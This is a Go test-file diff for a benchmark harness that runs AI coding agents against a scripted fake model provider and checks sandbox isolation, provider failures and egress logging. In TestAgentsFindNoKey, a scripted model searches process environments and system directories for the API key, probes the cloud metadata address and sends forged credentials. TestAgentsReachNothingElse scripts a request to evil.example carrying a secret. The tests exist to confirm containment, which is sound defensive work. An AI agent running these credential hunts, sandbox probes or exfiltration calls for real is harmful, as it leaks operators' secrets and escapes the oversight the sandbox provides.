@@ -3,12 +3,14 @@ package main
 import (
 	"bufio"
 	"bytes"
+	"context"
 	"encoding/json"
 	"fmt"
 	"io/fs"
 	"os"
 	"path/filepath"
 	"strings"
+	"sync"
 	"testing"
 
 	"github.com/securebench/sbench/proxy/providertest"
@@ -51,6 +53,13 @@ type agentRun struct {
 // runAgent lets a real, unmodified agent work.
 func runAgent(t *testing.T, agent, pack, task, script, config string, code int) agentRun {
 	t.Helper()
+	dir, err := filepath.Abs("../../benchmarks/" + pack)
+	check(t, err)
+	return runAgentOn(t, agent, dir, task, script, config, code)
+}
+
+func runAgentOn(t *testing.T, agent, pack, task, script, config string, code int) agentRun {
+	t.Helper()
 	h := newHost(t)
 	parsed, err := providertest.ParseText(script)
 	check(t, err)
@@ -63,11 +72,9 @@ func runAgent(t *testing.T, agent, pack, task, script, config string, code int) 
 	if agent == "codex" {
 		base, name = server.URL+"/v1", "OPENAI_API_KEY"
 	}
-	if pack == "repo-patch-smoke" {
+	if filepath.Base(pack) == "repo-patch-smoke" {
 		h.sbench(0, "image", "import", testbed(t))
 	}
-	packs, err := filepath.Abs("../../benchmarks/" + pack)
-	check(t, err)
 	tester := filepath.Join(h.dir, "tester.yaml")
 	check(t, os.WriteFile(tester, fmt.Appendf(nil, `schema_version: "0.2"
 run: {id: agent, output_dir: out}
@@ -75,8 +82,8 @@ benchmark: {manifest: %[1]s/manifest.yaml, tasks: %[1]s/tasks.jsonl}
 harness:
   type: %[2]s
   env: [%[3]s]
-  config: {model: test-model, base_url: "%[4]s", timeout_seconds: 120%[5]s}
-`, packs, agent, name, base, config), 0o644))
+  config: {model: test-model, base_url: "%[4]s"%[5]s}
+`, pack, agent, name, base, config), 0o644))
 	r := agentRun{host: h, provider: provider, output: filepath.Join(h.dir, "out")}
 	h.env = append(h.env, name+"="+realKey)
 	_, r.stderr = h.sbench(code, "run", "--config", tester, "--task", task, "--show-agent-output")
@@ -163,5 +170,182 @@ func TestAgentsSolve(t *testing.T) {
 				}
 			})
 		}
+	}
+}
+
+const greet = "shell echo 'hello, sandbox' > greeting.txt\nsay The file is there."
+
+// TestAgentsProvider: what a provider's failures make of an attempt. Where an
+// agent gives up that might have gone on, the attempt is no verdict.
+func TestAgentsProvider(t *testing.T) {
+	const passed, failed, none = "passed ", "failed ", "error infrastructure"
+	tests := []struct{ name, script, config, codex, claude string }{
+		{"slow", "delay 100ms\n" + greet, "", passed, passed},
+		{"cut once", "cut 2\n" + greet, "", passed, passed},
+		{"429 once", "fail 429\n" + greet, "", none, passed},
+		{"429 for ever", "fail 429 forever after=0\n" + greet, ", timeout_seconds: 8", none, none},
+		{"500 once", "fail 500\n" + greet, "", passed, passed},
+		{"500 for ever", "fail 500 forever\n" + greet, ", timeout_seconds: 8", none, none},
+		{"garbled once", "garble\n" + greet, "", passed, passed},
+		{"garbled for ever", "garble forever\n" + greet, ", timeout_seconds: 8", none, none},
+		{"requests are used up", greet, ", max_requests: 1", failed + "max_requests_exceeded", failed + "max_requests_exceeded"},
+		{"tokens are used up", "tokens in=100 out=100\n" + greet, ", max_total_tokens: 150", failed + "max_total_tokens_exceeded", failed + "max_total_tokens_exceeded"},
+		{"model that gives up", "say I cannot.", "", failed + "checker_failed", failed + "checker_failed"},
+		{"model that hangs", "shell tail -f /dev/null", ", timeout_seconds: 6", failed + "producer_timeout", failed + "producer_timeout"},
+	}
+	for _, agent := range agents() {
+		for _, tt := range tests {
+			t.Run(agent+"/"+tt.name, func(t *testing.T) {
+				t.Parallel()
+				want, code := map[string]string{"codex": tt.codex, "claude_code": tt.claude}[agent], 0
+				if want == none {
+					code = codeInfrastructure
+				}
+				r := runAgent(t, agent, "terminal-task-smoke", "terminal-task-smoke/create-file", tt.script, tt.config, code)
+				if got := r.record.Status + " " + r.record.Reason; got != want {
+					t.Errorf("%s (%s), want %s\n%s\n%s", got, r.record.Message, want, r.stderr, r.record.Stderr)
+				}
+			})
+		}
+	}
+}
+
+// TestAgentsFindNoKey: a model that looks for the key everywhere that a sandbox
+// has, and for what is not its own. All that it sees goes to the provider.
+func TestAgentsFindNoKey(t *testing.T) {
+	hunt := `shell <<END
+cat /proc/*/environ /proc/*/cmdline /proc/*/mountinfo 2>/dev/null | tr '\0' '\n' | grep -E 'sk-rea[l]|opera[t]or|/hidden|candidates.jso[n]l' ; echo environ done
+grep -rsE 'sk-rea[l]-0123456789' /opt/sbench/home /workspace /tmp /etc /root /home /var /run 2>/dev/null; echo grep done
+touch /opt/sbench/agent/evil 2>&1 | grep -o 'Read-only file system'; ls /opt/sbench
+ls /opt/sbench/home/.. /workspace/.. | sort | uniq -c | head -40
+python3 -c "
+import socket
+for a in (('127.0.0.1', 22), ('169.254.169.254', 80), ('10.0.0.1', 443)):
+    try: socket.create_connection(a, 3); print('REA' + 'CHED', a)
+    except OSError as e: print(a, e)
+s = socket.create_connection(('127.0.0.1', 8099)); s.sendall(b'GET /v1/models HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer forged\r\nx-api-key: forged\r\n\r\n'); print(s.recv(4000))"
+END
+say Nothing to be found.`
+	for _, agent := range agents() {
+		t.Run(agent, func(t *testing.T) {
+			t.Parallel()
+			r := runAgent(t, agent, "terminal-task-smoke", "terminal-task-smoke/create-file", hunt, "", 0)
+			if r.record.Reason != "checker_failed" {
+				t.Errorf("%+v\n%s", r.record, r.stderr)
+			}
+			saw := ""
+			for _, request := range r.provider.Requests() {
+				saw += string(request.Body)
+				for _, values := range request.Header {
+					if strings.Contains(fmt.Sprint(values), "forged") {
+						t.Error("a forged credential reached the provider")
+					}
+				}
+			}
+			for _, wanted := range []string{"environ done", "grep done", "Read-only file system"} {
+				if !strings.Contains(saw, wanted) {
+					t.Errorf("the model did not get to see %q", wanted)
+				}
+			}
+			for _, secret := range []string{realKey, "of-the-operator", "REACHED", "check-greeting", "candidates.json"} {
+				if strings.Contains(saw, secret) {
+					t.Errorf("the model saw %q", secret)
+				}
+			}
+		})
+	}
+}
+
+// egressLine is what these tests read of egress.jsonl.
+type egressLine struct {
+	Kind, Host, Verdict, Reason, Path, Model string
+	Port, Status                             int
+	Stripped                                 []string
+	Usage                                    *struct{ Input, Output int64 }
+}
+
+func (r agentRun) egress(t *testing.T) []egressLine {
+	t.Helper()
+	f, err := os.Open(filepath.Join(r.output, "egress.jsonl"))
+	check(t, err)
+	defer func() { check(t, f.Close()) }()
+	var all []egressLine
+	for d := json.NewDecoder(f); d.More(); {
+		var line egressLine
+		check(t, d.Decode(&line))
+		all = append(all, line)
+	}
+	return all
+}
+
+// TestAgentsReachNothingElse: a host that is not allowed is refused and logged,
+// a hosted tool is taken out and logged, and the run goes on.
+func TestAgentsReachNothingElse(t *testing.T) {
+	script := `shell python3 -c "import urllib.request as u; u.urlopen('https://evil.example/?q=secret')" 2>&1 | tail -1; echo 'hello, sandbox' > greeting.txt
+say The file is there.`
+	for _, agent := range agents() {
+		t.Run(agent, func(t *testing.T) {
+			t.Parallel()
+			r := runAgent(t, agent, "terminal-task-smoke", "terminal-task-smoke/create-file", script, "", 0)
+			if r.record.Status != "passed" || r.record.Egress.Proxy.Denied == 0 {
+				t.Errorf("%+v\n%s", r.record, r.stderr)
+			}
+			denied, relayed, stripped := false, 0, false
+			for _, line := range r.egress(t) {
+				denied = denied || line.Kind == "connect" && line.Host == "evil.example" && line.Port == 443 && line.Verdict == "deny" && line.Reason != ""
+				if line.Kind == "relay" && line.Verdict == "allow" && line.Status == 200 && line.Model == "test-model" && line.Usage != nil {
+					relayed++
+				}
+				stripped = stripped || len(line.Stripped) > 0
+			}
+			if !denied || relayed < 2 {
+				t.Errorf("denied %v, relayed %d: %+v", denied, relayed, r.egress(t))
+			}
+			if agent == "codex" && (!stripped || len(r.record.Egress.Relay.Stripped) == 0) { // it asks for web_search by itself
+				t.Errorf("no hosted tool was taken out: %+v", r.egress(t))
+			}
+		})
+	}
+}
+
+// TestAgentsTogether: two attempts at the same time share the agent's files, which
+// neither can write, and nothing else.
+func TestAgentsTogether(t *testing.T) {
+	for _, agent := range agents() {
+		t.Run(agent, func(t *testing.T) {
+			t.Parallel()
+			var both [2]agentRun
+			var wg sync.WaitGroup
+			for i := range both {
+				wg.Go(func() {
+					both[i] = runAgent(t, agent, "terminal-task-smoke", "terminal-task-smoke/create-file", fmt.Sprintf(
+						"shell for d in /tmp /opt/sbench/home /workspace; do touch $d/left-by-%d; done; sleep 3; ls /tmp /opt/sbench/home /workspace\n%s", i, greet), "", 0)
+				})
+			}
+			wg.Wait()
+			for i, r := range both {
+				own, other := fmt.Sprint("left-by-", i), fmt.Sprint("left-by-", 1-i)
+				if r.record.Status != "passed" || !strings.Contains(r.stderr, "\n"+own) && strings.Count(r.stderr, own) < 3 || strings.Contains(r.stderr, other) {
+					t.Errorf("%+v\n%s", r.record, r.stderr)
+				}
+			}
+		})
+	}
+}
+
+// TestAgentDoesNotRun: an image in which the program cannot run is no verdict, and
+// says so in the program's words.
+func TestAgentDoesNotRun(t *testing.T) {
+	c := containerdtest.Open(t)
+	folder := t.TempDir()
+	check(t, os.WriteFile(filepath.Join(folder, "ld-linux-x86-64.so.2"), []byte("broken"), 0o755))
+	image := containerdtest.WithFolder(t, c, "sbench.test/no-loader:latest", folder, "/usr/lib64")
+	t.Cleanup(func() { check(t, c.RemoveImage(context.Background(), image.Ref)) })
+	dir := t.TempDir()
+	check(t, os.WriteFile(filepath.Join(dir, "manifest.yaml"), []byte("id: p\nversion: 1\ndefaults: {family: terminal_task, environment: {image: '"+image.Ref+"'}}\n"), 0o644))
+	check(t, os.WriteFile(filepath.Join(dir, "tasks.jsonl"), []byte(`{"id": "one", "input": {"instructions": "x"}, "eval": {"checker": {"command": "true"}}}`+"\n"), 0o644))
+	r := runAgentOn(t, "claude_code", dir, "one", greet, "", codeInfrastructure)
+	if r.record.Status != "error" || !strings.Contains(r.record.Message, "does not run in this image") {
+		t.Errorf("%+v", r.record)
 	}
 }
